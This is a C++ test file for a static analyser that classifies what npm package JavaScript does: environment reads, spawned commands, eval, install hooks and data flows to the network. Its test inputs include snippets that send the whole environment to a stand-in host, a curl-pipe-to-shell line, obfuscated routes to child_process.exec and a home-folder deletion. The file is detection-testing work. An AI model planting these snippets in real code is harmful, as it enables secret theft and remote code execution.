#include "facts/code/code_facts.h"

#include <gtest/gtest.h>

#include "base/limits.h"
#include "facts/harness_test.h"

namespace facts {
namespace {

/// The `code.*` facts of one file that is imported.
std::string Code(std::string_view source, std::string_view prefix = "code.") {
  return Lines(Only(ExtractFrom({{"index.js", source}}), prefix));
}

/// Facts of several files; package.json among them decides what runs when.
std::string Package(std::initializer_list<std::pair<std::string_view, std::string_view>> files,
                    std::string_view prefix = "code.") {
  return Lines(Only(ExtractFrom(files), prefix));
}

struct Row {
  std::string_view source;
  std::string_view facts;
};

class CodeFacts : public testing::TestWithParam<Row> {};

TEST_P(CodeFacts, AreWhatTheSourceDoes) {
  EXPECT_EQ(Code(GetParam().source), GetParam().facts) << GetParam().source;
}

INSTANTIATE_TEST_SUITE_P(
    Environment, CodeFacts,
    testing::Values(
        Row{"use(process.env.NPM_TOKEN)",
            "code.env.read [import] index.js:1:5 name=NPM_TOKEN secret=npm sort=one\n"},
        Row{"const { HOME, API_KEY: k } = process.env",
            "code.env.read [import] index.js:1:9 name=HOME sort=one\n"
            "code.env.read [import] index.js:1:15 name=API_KEY secret=generic sort=one\n"},
        Row{"const p = process; use(p['e' + 'nv'])",
            "code.env.read [import] index.js:1:24 sort=all\n"},
        Row{"import { env } from 'node:process'; use(env.A)",
            "code.env.read [import] index.js:1:41 name=A sort=one\n"},
        Row{"use(process.env.CI)",
            "code.ci.detect [import] index.js:1:5 name=CI\n"
            "code.env.read [import] index.js:1:5 name=CI sort=one\n"},
        Row{"const process = {env: 1}; use(process.env.A)", ""}));

constexpr std::string_view kId = "command=id how=exec program=id shell=yes\n";

/// Every way to reach one function gives the same fact.
TEST(CodeFacts, ResolvesNamesNotTexts) {
  for (const std::string_view source : {
           "require('child_process').exec('id')",
           "require('node:child_process').exec('id')",
           "const { exec } = require('child_process'); exec('id')",
           "const { exec: run } = require('child_process'); run('id')",
           "import cp from 'child_process'; cp.exec('id')",
           "import * as cp from 'child_process'; cp.exec('id')",
           "import { exec as e } from 'child_process'; e('id')",
           "(await import('child_process')).exec('id')",
           "require('child_' + 'process')['ex' + 'ec']('id')",
           "const m = 'child_process'; require(m).exec('i' + 'd')",
           "(0, require('child_process').exec)('id')",
           "const r = require; r('child_process').exec('id')",
           "module.require('child_process').exec('id')",
           "process.mainModule.require('child_process').exec('id')",
           "globalThis['process'].mainModule.require('child_process').exec('id')",
           "require('module').createRequire(__filename)('child_process').exec('id')",
           "const e = require('child_process').exec; const f = e.bind(null); f('id')",
           "require('child_process').exec.call(null, 'id')",
           "require('child_process').exec.apply(null, ['id'])",
           "Reflect.apply(require('child_process').exec, null, ['id'])",
           "Reflect.get(require('child_process'), 'exec')('id')",
           "require('util').promisify(require('child_process').exec)('id')",
           "const o = { run: require('child_process').exec }; o.run('id')",
           "const o = {}; o.run = require('child_process').exec; o.run('id')",
           "const a = [require('child_process')]; a[0].exec('id')",
           "function cp() { return require('child_process') } cp().exec('id')",
           "(function (cp) { cp.exec('id') })(require('child_process'))",
           "class A { run() { return this.cp.exec('id') } constructor() { this.cp = "
           "require('child_process') } } new A().run()",
           "var x = _interop(require('child_process')); function _interop(e) { return e && "
           "e.__esModule ? e : { default: e } } x.default.exec('id')",
           "process.getBuiltinModule('child_process').exec('id')",
       }) {
    const std::string facts = Code(source, "code.process");
    EXPECT_TRUE(facts.starts_with("code.process.spawn [import]") && facts.ends_with(kId))
        << source << "\n"
        << facts;
  }
}

TEST(CodeFacts, ReadsCommandsByTheReaderOfShellText) {
  EXPECT_NE(Code("require('child_process').execSync('curl -s http://a.example/x | sh')", "script.")
                .find("script.download-run [import] index.js:1:1"),
            std::string::npos);
}

INSTANTIATE_TEST_SUITE_P(
    Evaluation, CodeFacts,
    testing::Values(
        Row{"eval('go()')",
            "code.eval [import] index.js:1:1 from=constant how=eval text=go() => go()\n"},
        Row{"setTimeout(() => {}, 1)", ""},
        Row{"setTimeout('go()', 1)",
            "code.eval [import] index.js:1:1 from=constant how=timer text=go() => go()\n"},
        Row{"[].constructor.constructor('go()')()",
            "code.eval [import] index.js:1:1 from=constant how=function text=go() => go()\n"},
        Row{"(async () => {}).constructor('go()')",
            "code.eval [import] index.js:1:1 from=constant how=function text=go() => go()\n"},
        Row{"exports.f = (x) => new Function('a', x)",
            "code.eval [call] index.js:1:20 from=computed how=function\n"},
        Row{"require('module')._load = f",
            "code.loader.hijack [import] index.js:1:1 what=module._load\n"},
        Row{"globalThis.fetch = f", "code.global.wrap [import] index.js:1:1 name=global.fetch\n"},
        Row{"require(process.argv[2])", "code.require.dynamic [import] index.js:1:1 how=require\n"},
        Row{"process.dlopen(module, './a.node')",
            "code.addon [import] index.js:1:1 how=dlopen path=./a.node\n"}));

/// Where data is read and where it goes, by whatever way.
TEST(CodeFlows, FollowDataByEveryWay) {
  for (const std::string_view source : {
           "fetch('https://a.example/' + JSON.stringify(process.env))",
           "const d = { ...process.env }; fetch('https://a.example/', { body: d })",
           "function s(x) { fetch('https://a.example/', { body: x }) } s(process.env)",
           "const e = () => process.env; fetch('https://a.example/?' + e())",
           "let t = ''; for (const k of Object.keys(process.env)) t += k; "
           "fetch('https://a.example/' + t)",
           "const o = {}; o.e = process.env; fetch('https://a.example/', { body: o })",
           "const l = []; l.push(process.env); fetch('https://a.example/', { body: l.join() })",
           "Promise.resolve(process.env).then((e) => fetch('https://a.example/', { body: e }))",
           "(async () => { const e = await new Promise((r) => r(process.env)); "
           "fetch('https://a.example/', { body: e }) })()",
           "const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('x', "
           "(d) => fetch('https://a.example/', { body: d })); e.emit('x', process.env)",
           "class A { constructor() { this.d = process.env } send() { fetch('https://a.example/', "
           "{ body: this.d }) } } new A().send()",
           "function each(f) { f(process.env) } each((e) => fetch('https://a.example/', { body: e "
           "}))",
           "const b = Buffer.from(JSON.stringify(process.env)).toString('base64'); "
           "require('https').request({ host: 'a.example' }).end(b)",
       }) {
    const std::string flows = Code(source, "code.flow");
    EXPECT_NE(flows.find("sink=network source=whole-environment"), std::string::npos)
        << source << "\n"
        << flows;
  }
}

TEST(CodeFlows, KeepApartWhatIsApart) {
  for (const std::string_view source : {
           "const s = JSON.stringify; s(process.env); fetch('https://a.example/', { body: s(1) })",
           "function id(x) { return x } id(process.env); fetch('https://a.example/', { body: id(2) "
           "})",
           "const o = { a: process.env, b: 1 }; fetch('https://a.example/', { body: o.b })",
           "const n = Object.keys(process.env).length; fetch('https://a.example/', { body: n })",
           "if (process.env === x) fetch('https://a.example/', { body: 1 })",
       }) {
    EXPECT_EQ(Code(source, "code.flow"), "") << source;
  }
}

TEST(CodeFlows, ShowTheirSteps) {
  const Facts facts = Only(ExtractFrom({{"index.js",
                                         "const data = process.env;\n"
                                         "const text = JSON.stringify(data);\n"
                                         "fetch('https://a.example/' + text);\n"}}),
                           "code.flow");
  ASSERT_EQ(facts.size(), 1U);
  std::string steps;
  for (const EvidenceStep& step : facts[0].evidence.steps)
    steps += std::to_string(step.position.line) + ": " + step.what + "\n";
  EXPECT_EQ(steps,
            "2: read: whole-environment\n"
            "2: made JSON\n"
            "3: kept\n");
}

constexpr std::string_view kManifest =
    R"({"name": "a", "version": "1.0.0", "main": "lib/main.js", "scripts": {"postinstall": "node setup.js"}})";

TEST(CodePhases, FollowWhatIsLoadedAndCalled) {
  EXPECT_EQ(
      Package({{"package.json", kManifest},
               {"setup.js", "require('./lib/helper').now(); function idle() { eval('1') }"},
               {"lib/main.js", "exports.go = () => eval('2'); require('./shared'); eval('3')"},
               {"lib/helper.js", "exports.now = () => eval('4'); exports.later = () => eval('5')"},
               {"lib/shared.js", "import './deep.mjs'"},
               {"lib/deep.mjs", "eval('6')"},
               {"test/a.js", "eval('7')"}},
              "code.eval"),
      "code.eval [import] lib/deep.mjs:1:1 from=constant how=eval text=6 => 6\n"
      "code.eval [install] lib/helper.js:1:21 from=constant how=eval text=4 => 4\n"
      "code.eval [call] lib/helper.js:1:54 from=constant how=eval text=5 => 5\n"
      "code.eval [call] lib/main.js:1:20 from=constant how=eval text=2 => 2\n"
      "code.eval [import] lib/main.js:1:52 from=constant how=eval text=3 => 3\n"
      "code.eval [call] setup.js:1:50 from=constant how=eval text=1 => 1\n"
      "code.eval [never] test/a.js:1:1 from=constant how=eval text=7 => 7\n");
}

TEST(CodePhases, KnowConditionalExports) {
  EXPECT_EQ(
      Package(
          {{"package.json",
            R"({"name": "a", "exports": {".": {"import": "./a.mjs", "default": {"node": "./b.js"}}, "./x/*": "./x/*.js"}})"},
           {"a.mjs", "eval('1')"},
           {"b.js", "eval('2')"},
           {"c.js", "eval('3')"},
           {"x/y.js", "eval('4')"}},
          "code.eval"),
      "code.eval [import] a.mjs:1:1 from=constant how=eval text=1 => 1\n"
      "code.eval [import] b.js:1:1 from=constant how=eval text=2 => 2\n"
      "code.eval [never] c.js:1:1 from=constant how=eval text=3 => 3\n"
      "code.eval [import] x/y.js:1:1 from=constant how=eval text=4 => 4\n");
}

TEST(CodePhases, FlowsCrossFiles) {
  const std::string flows = Package(
      {{"package.json", R"({"name": "a", "main": "index.js"})"},
       {"index.js", "const { all } = require('./gather'); require('./send').default(all())"},
       {"gather.js", "exports.all = () => ({ ...process.env })"},
       {"send.js", "export { send as default } from './deeper'"},
       {"deeper.js", "export function send(x) { fetch('https://a.example', { body: x }) }"}},
      "code.flow");
  EXPECT_NE(flows.find("deeper.js:1:27 name=process.env sink=network source=whole-environment"),
            std::string::npos)
      << flows;
}

TEST(CodeFacts, AreTheSameForOtherLineEndsAndWithComments) {
  const std::string plain =
      Code("const e = process.env;\nfetch('https://a.example', { body: e });\n");
  EXPECT_EQ(plain, Code("const e = process.env;\r\nfetch('https://a.example', { body: e });\r\n"));
  EXPECT_EQ(
      Only(ExtractFrom({{"index.js", "fetch(/* a */ 'https://a.example', // b\n process.env)"}}),
           "code.flow")
          .size(),
      1U);
}

TEST(CodeFlows, TellTheProgramFromItsArguments) {
  const auto part = [](std::string_view call) {
    const std::string flow = Code(
        "const { spawn, exec } = require('child_process');"
        "fetch('https://a.example').then((r) => r.text()).then((x) => " +
            std::string(call) + ");",
        "code.flow");
    const std::size_t at = flow.find("part=");
    return at == std::string::npos ? flow : flow.substr(at + 5, flow.find(' ', at) - at - 5);
  };
  EXPECT_EQ(part("spawn('npx', ['degit', x, 'app'])"), "argument");
  EXPECT_EQ(part("spawn('npx', ['-y', 'degit@2.8.4', x])"), "argument");
  EXPECT_EQ(part("spawn('degit', [x])"), "argument");
  EXPECT_EQ(part("spawn('npx', [x, 'degit'])"), "command");
  EXPECT_EQ(part("spawn('npx', ['tsx', x])"), "command");
  EXPECT_EQ(part("spawn('npx', ['degit', x], { shell: true })"), "command");
  EXPECT_EQ(part("spawn('git', ['clone', x])"), "command");
  EXPECT_EQ(part("spawn(x, ['degit'])"), "command");
  EXPECT_EQ(part("exec('npx degit ' + x)"), "command");
}

TEST(CodeFacts, TellWhatCouldNotBeRead) {
  EXPECT_EQ(Code("let let = 1; eval('a')", "code.unparsed").substr(0, 13), "code.unparsed");
  EXPECT_NE(Code("let let = 1;\neval('a')", "code.eval"), "");
}

TEST(CodeFacts, FollowInlineCode) {
  EXPECT_NE(
      Package(
          {{"package.json",
            R"({"name": "a", "version": "1.0.0", "scripts": {"preinstall": "node -e \"require('child_process').exec('id')\""}})"}},
          "code.process")
          .find("code.process.spawn [install] package.json"),
      std::string::npos);
}

/// Nested calls, long chains, cycles of every kind: bounded, and never a crash.
TEST(CodeFacts, EndsOnSpite) {
  std::string chain = "x";
  for (int i = 0; i < 20'000; ++i) chain += ".a()";
  std::string sum = "fetch('https://a.example/'";
  for (int i = 0; i < 20'000; ++i) sum += " + b" + std::to_string(i % 7);
  std::string cycle =
      "let a = b, b = c, c = a; function f(x) { return f(g(x)) } function g(x) { return g(f(x)) }";
  cycle += "fetch('https://a.example/', { body: f(g(a)) }); a = f; b = g; c = f(b(g));";
  std::string fan;
  for (int i = 0; i < 3'000; ++i)
    fan += "function f" + std::to_string(i) + "(x) { return f" + std::to_string(i + 1) + "(x) + f" +
           std::to_string(i / 2) + "(x) }";
  fan += "fetch('https://a.example/', { body: f0(process.env) })";
  for (const std::string& source : {chain, sum + ")", cycle, fan}) (void)Code(source);
}

/// A function that gives the home folder for `~` and its argument otherwise deletes no home folder.
TEST(CodeFacts, TakesOneOfSeveralResultsForNoBroadDeletion) {
  constexpr std::string_view kDelete =
      "const fs = require('fs'), os = require('os');"
      "fs.rmSync(where(process.argv[2]), { recursive: true });";
  const std::string one = std::string(kDelete) + "function where() { return os.homedir() }";
  const std::string either =
      std::string(kDelete) + "function where(p) { if (p === '~') return os.homedir(); return p }";
  EXPECT_NE(Code(one, "code.delete.broad"), "");
  EXPECT_EQ(Code(either, "code.delete.broad"), "");
}

/// Classes and object literals with many members are sorted once; the first member of a class and
/// the last of an object count, as in small ones.
TEST(CodeFacts, FindsMembersAmongManyAsAmongFew) {
  for (const int more : {0, 100}) {
    std::string methods;
    std::string properties;
    for (int i = 0; i < more; ++i) {
      methods += "m" + std::to_string(i) + "() {} ";
      properties += "p" + std::to_string(i) + ": 1, ";
    }
    const std::string type = "class A { run() { return require('child_process').exec } " + methods +
                             "run() {} }; new A().run()('id')";
    EXPECT_EQ(Code(type, "code.process.spawn"),
              "code.process.spawn [import] index.js:1:" + std::to_string(type.find("new A()") + 1) +
                  " " + std::string(kId));
    const std::string object = "const o = { ['r' + 'un']: 1, " + properties +
                               "run: require('child_process').exec }; o.run('id')";
    EXPECT_EQ(Code(object, "code.process.spawn"),
              "code.process.spawn [import] index.js:1:" + std::to_string(object.find("o.run") + 1) +
                  " " + std::string(kId));
  }
}

/// A class of a thousand methods that all call one another costs a few steps for each call, not a
/// look at every method: it is followed to its end.
TEST(CodeFacts, FollowsALargeClassToItsEnd) {
  std::string source = "class A {";
  for (int i = 0; i < 3000; ++i) {
    const std::string next = std::to_string((i + 1) % 3000);
    source += "m" + std::to_string(i) + "() { this.f" + next + " = 1; return this.m" + next +
              "().g" + next + "(this.f" + next + "); }\n";
  }
  EXPECT_EQ(Code(source + "}", "code.budget"), "");
}

}  // namespace
}  // namespace facts
